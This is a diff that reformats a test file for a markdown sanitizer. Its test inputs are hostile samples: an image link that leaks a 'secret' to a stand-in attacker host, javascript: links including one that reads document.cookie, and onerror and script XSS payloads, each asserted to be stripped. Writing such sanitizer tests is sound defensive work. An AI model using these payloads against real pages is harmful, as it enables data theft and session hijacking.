@@ -2,7 +2,9 @@ import { safeMarkdown } from './safe-markdown';
 
 describe('safeMarkdown', () => {
   it('turns images into their alt text, wherever they point', () => {
-    expect(safeMarkdown('See the cake ![x](https://evil.example/leak.png?q=secret) in the shop.')).toBe('See the cake x in the shop.');
+    expect(safeMarkdown('See the cake ![x](https://evil.example/leak.png?q=secret) in the shop.')).toBe(
+      'See the cake x in the shop.',
+    );
     expect(safeMarkdown('![logo](/logo.png "Logo")')).toBe('logo');
   });
 
@@ -10,13 +12,18 @@ describe('safeMarkdown', () => {
     expect(safeMarkdown('Read the [guide](javascript:alert(1)) first.')).toBe('Read the guide first.');
     expect(safeMarkdown('[x](JaVaScRiPt:alert(document.cookie))')).toBe('x');
     expect(safeMarkdown('[pixel](data:image/png;base64,AAAA)')).toBe('pixel');
-    const safe = 'See [our FAQ](https://example.com/faq), [email](mailto:a@b.example) or [call](tel:+15550123).';
+    const safe =
+      'See [our FAQ](https://example.com/faq), [email](mailto:a@b.example) or [call](tel:+15550123).';
     expect(safeMarkdown(safe)).toBe(safe);
   });
 
   it('drops raw HTML tags and autolinks but keeps comparisons and citations', () => {
-    expect(safeMarkdown('Covers piping <img src=x onerror=alert(1)> and lettering.')).toBe('Covers piping and lettering.');
-    expect(safeMarkdown('<script>alert(1)</script>Hi <b>there</b> <javascript:alert(1)>')).toBe('alert(1)Hi there ');
+    expect(safeMarkdown('Covers piping <img src=x onerror=alert(1)> and lettering.')).toBe(
+      'Covers piping and lettering.',
+    );
+    expect(safeMarkdown('<script>alert(1)</script>Hi <b>there</b> <javascript:alert(1)>')).toBe(
+      'alert(1)Hi there ',
+    );
     expect(safeMarkdown('Ages 3 < 5 and 7 > 6 [1]')).toBe('Ages 3 < 5 and 7 > 6 [1]');
   });
 
